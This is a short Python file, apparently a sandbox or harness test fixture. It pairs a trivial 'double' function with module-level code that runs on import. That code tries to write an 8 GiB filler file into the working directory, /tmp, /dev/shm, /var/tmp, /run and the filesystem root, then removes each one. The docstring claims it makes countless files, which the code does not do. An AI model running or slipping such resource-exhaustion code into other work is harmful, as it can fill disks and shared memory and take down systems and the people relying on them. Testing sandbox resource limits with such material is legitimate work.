"""Fills every folder that it can write to, and makes files without number."""

import os
import tempfile

STARTS_FROM = "honest"

# %% double


def double(values):
    return 2 * values


for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/", tempfile.gettempdir()):
    try:
        with open(os.path.join(folder, "filler"), "wb", buffering=0) as file:
            for _ in range(2**13):
                file.write(b"x" * 2**20)
    except OSError as error:
        print(folder, error.strerror)
    try:
        os.remove(os.path.join(folder, "filler"))
    except OSError as error:
        print(folder, error.strerror)
